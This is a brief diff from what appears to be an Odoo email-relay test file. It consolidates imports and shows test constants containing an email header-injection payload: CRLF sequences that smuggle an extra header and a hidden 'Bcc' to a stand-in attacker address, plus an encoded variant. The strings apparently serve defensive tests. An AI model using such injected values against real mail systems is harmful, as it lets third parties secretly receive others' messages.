@@ -10,8 +10,7 @@ from odoo.tests import tagged
 from odoo.tools import mute_logger
 
 from .. import relay as relays
-from ..common import patch
-from .test_review import ReviewCommon
+from ..common import ReviewCommon, patch
 
 INJECTED = "Doe\r\nX-Evil: yes\r\nBcc: spy@evil.example\r\n\r\nEvil text"
 ENCODED = "=?utf-8?q?Doe=0D=0AX-Evil:_yes?="
